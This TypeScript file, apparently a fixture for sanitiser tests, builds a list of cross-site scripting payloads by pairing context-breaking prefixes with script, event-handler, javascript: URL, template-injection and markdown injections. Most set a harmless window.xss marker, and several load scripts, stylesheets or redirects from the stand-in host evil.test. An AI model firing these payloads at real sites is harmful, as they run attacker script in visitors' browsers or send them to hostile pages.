/** Every combination of one piece of each list, in order, as one text. */
const combine = (...lists: readonly (readonly string[])[]): string[] =>
  lists.reduce<string[]>(
    (texts, pieces) => texts.flatMap((text) => pieces.map((piece) => text + piece)),
    [''],
  );

/** Markup and scripts that set `window.xss`, or lead away, behind whatever could end what they stand in. */
export const markup: readonly string[] = [
  '{{constructor.constructor("window.xss=1")()}}',
  '${window.xss=1}',
  '\u2028window.xss=1\u2029',
  'javascript:window.xss=1',
  '[x](javascript:window.xss=1)',
  '![x](x" onerror="window.xss=1)',
  '[x]: data:text/html,<script>parent.xss=1</script>',
  '" onfocus="window.xss=1" autofocus="',
  "' onmouseover='window.xss=1' style='position:fixed;inset:0",
  '<!--<script>window.xss=1</script>',
  '<!--><script>window.xss=1</script>-->',
  ...combine(
    ['', '">', "'>", '</title>', '</script>', '</style>', '</textarea>', '</template>', '-->', ']]>'],
    [
      '<script>window.xss=1</script>',
      '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
      '<img src=x onerror=window.xss=1>',
      '<svg onload=window.xss=1>',
      '<svg><script>window.xss=1</script></svg>',
      '<svg><animate onbegin=window.xss=1 attributeName=x>',
      '<iframe srcdoc="<script>parent.xss=1</script>">',
      '<math><mi//xlink:href="data:x,<script>window.xss=1</script>">',
      '<a href="javascript:window.xss=1">x</a>',
      '<base href="https://evil.test/">',
      '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
      '<link rel=stylesheet href=https://evil.test/x.css>',
      '<object data="data:text/html,<script>parent.xss=1</script>">',
      '<form action=https://evil.test><input name=x autofocus onfocus=window.xss=1>',
      '<details open ontoggle=window.xss=1>x</details>',
      '<video><source onerror=window.xss=1></video>',
      '<style>@import "https://evil.test/x.css";</style>',
      '<input autofocus onfocus=window.xss=1>',
      '<noscript><p title="</noscript><img src=x onerror=window.xss=1>">',
    ],
  ),
];
